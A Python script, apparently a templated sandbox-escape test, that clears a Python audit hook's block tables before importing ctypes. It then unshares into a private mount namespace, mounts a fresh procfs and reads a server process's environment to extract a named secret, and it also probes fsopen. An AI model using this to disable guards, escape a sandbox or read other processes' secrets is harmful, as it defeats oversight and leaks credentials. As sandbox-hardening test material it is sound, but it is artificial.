"""proc: mount a fresh procfs (there is none in the sandbox) and read the server through it.

Mounts only in a private mount namespace of its own (unshare, then MS_PRIVATE), so even an
unconfined run cannot change the host's mounts; fsopen("proc") is tried too.
"""

import os
import sys

_guard = vars(sys.modules["__main__"])
if "_BLOCKED" in _guard:  # a Python audit hook keeps its tables there: empty them first
    _guard["_BLOCKED"], _guard["_ROOT"] = (), ""

# ctypes is audited on import (ctypes.dlopen): import it once the guard is gone.
import ctypes  # noqa: E402

SERVER_PID = int("__SERVER_PID__")
NAME = "__SECRET_ENV__"
CLONE_NEWNS, CLONE_NEWUSER, CLONE_NEWPID = 0x00020000, 0x10000000, 0x20000000
MS_REC, MS_PRIVATE = 0x4000, 1 << 18
libc = ctypes.CDLL(None, use_errno=True)


def err():
    return os.strerror(ctypes.get_errno())


os.makedirs("p", exist_ok=True)
target = os.path.abspath("p")
private = False
for flags, label in ((CLONE_NEWNS, "mount"), (CLONE_NEWUSER | CLONE_NEWNS, "user+mount")):
    if libc.unshare(flags) == 0:
        print(f"unshare({label}) worked")
        private = libc.mount(b"none", b"/", None, MS_REC | MS_PRIVATE, None) == 0
        break
    print(f"unshare({label}): {err()}")
if private:
    if libc.mount(b"proc", target.encode(), b"proc", 0, None) == 0:
        try:
            with open(f"{target}/{SERVER_PID}/environ", "rb") as f:
                hit = [e for e in f.read().split(b"\0") if e.startswith(NAME.encode())]
            print(f"ESCAPED: mounted proc and read the server's environment: {hit}")
        except OSError as exc:
            print(f"ESCAPED: mounted proc ({os.listdir(target)[:5]}), environ: {exc.strerror}")
    else:
        print(f"mount proc: {err()}")
else:
    print("no private mount namespace; a mount would touch the host's, so only probing")
fd = libc.syscall(430, b"proc", 0) if os.uname().machine in ("x86_64", "aarch64") else -1
print(f"fsopen(proc): {fd if fd >= 0 else err()}")
if fd >= 0:
    print("ESCAPED: fsopen(proc) handed out a filesystem context")
    os.close(fd)
